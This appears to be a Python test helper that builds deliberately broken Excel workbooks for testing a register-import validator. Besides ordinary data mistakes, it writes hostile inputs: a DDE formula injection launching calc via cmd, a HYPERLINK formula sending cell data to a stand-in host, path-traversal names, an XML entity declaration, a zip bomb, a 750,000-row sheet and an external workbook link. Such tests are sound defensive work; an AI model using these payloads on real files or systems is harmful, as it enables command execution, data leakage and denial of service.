"""Ways to spoil a workbook of a register, by the names that registers.yml calls them."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from metodbank.intake.register.layout import NAME
from tests.registers_help import Sent, columns, edit


def spoil(name: str, sent: Sent, target: Path) -> Path:
    """Make a workbook with a mistake people make."""
    if name == "nobody":
        return edit(sent.books["programs"], target, "Программа. Обучено", {(2, NAME): "net-takoy"})
    book = sent.books["people"]
    found = load_workbook(book)
    sheet = found["Люди"]
    heads = columns(sheet)
    match name:
        case "word":
            sheet.cell(2, heads["Категория"], "высочайшая")
        case "no_name":
            sheet.cell(1, 1, "Файл")
        case "twice":
            sheet.cell(3, 1, "p-001")
        case "column_twice":
            sheet.cell(1, sheet.max_column + 1, "Должность")
        case "error":
            sheet.cell(2, heads["Категория"], "=1/0")
        case "merged":
            sheet.merge_cells(start_row=2, end_row=4, start_column=heads["Категория"], end_column=heads["Категория"])
        case "merged_many":
            for row in range(200, 2201):
                sheet.merge_cells(start_row=row, end_row=row, start_column=2, end_column=3)
        case "merged_names":
            sheet.merge_cells("A2:A3")
        case "link":
            sheet.cell(2, heads["Категория"], '=HYPERLINK("http://192.0.2.1/?"&A2,"высшая")')
        case "command":
            sheet.cell(2, heads["Категория"], "=cmd|' /C calc'!A0")
        case "reference":
            sheet.cell(2, heads["Организация"], "shkola-33")
        case "edited":
            sheet.cell(2, heads["Категория"], "первая")
        case "own":
            sheet.cell(1, sheet.max_column + 1, "Моя пометка")
            sheet.cell(2, sheet.max_column, "позвонить")
            sheet.delete_cols(heads["Категория"])
            found.create_sheet("Для себя")["A1"] = "что угодно"
        case "outside":
            for row, name in ((200, "../../p-900"), (201, "con")):
                sheet.cell(row, 1, name)
                sheet.cell(row, heads["Должность"], "учитель")
                sheet.cell(row, heads["Организация"], "shkola-3")
        case "not_a_workbook":
            target.write_bytes(b"PK not a workbook")
            return target
        case "entities" | "bomb" | "million" | "foreign":
            return _hostile(name, book, target)
    found.save(target)
    return target


PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = f"{SPACE}/externalLink"
FOREIGN = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    f'<externalBook xmlns:r="{SPACE}" r:id="rId1"/></externalLink>'
)


def _hostile(name: str, book: Path, target: Path) -> Path:
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            content = old.read(part)
            if part == "xl/workbook.xml" and name == "entities":
                content = content.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
            if part == "xl/worksheets/sheet1.xml" and name == "million":
                rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(3000, 750_000))
                content = content.replace(b"</sheetData>", rows + b"</sheetData>")
            if part == "xl/_rels/workbook.xml.rels" and name == "foreign":
                line = f'<Relationship Id="rId900" Type="{LINK}" Target="externalLinks/externalLink1.xml"/>'
                content = content.replace(b"</Relationships>", line.encode() + b"</Relationships>")
            if part == "xl/workbook.xml" and name == "foreign":
                line = f'<externalReferences><externalReference xmlns:r="{SPACE}" r:id="rId900"/></externalReferences>'
                content = content.replace(b"</sheets>", b"</sheets>" + line.encode())
            new.writestr(part, content)
        if name == "foreign":
            there = (
                f'<Relationship Id="rId1" Type="{LINK}Path" Target="http://192.0.2.1/x.xlsx" TargetMode="External"/>'
            )
            new.writestr("xl/externalLinks/externalLink1.xml", FOREIGN)
            new.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                f'<Relationships xmlns="{PACKAGE}">{there}</Relationships>',
            )
        if name == "bomb":
            new.writestr("xl/media/bomb.bin", bytes(150_000_000))
    return target
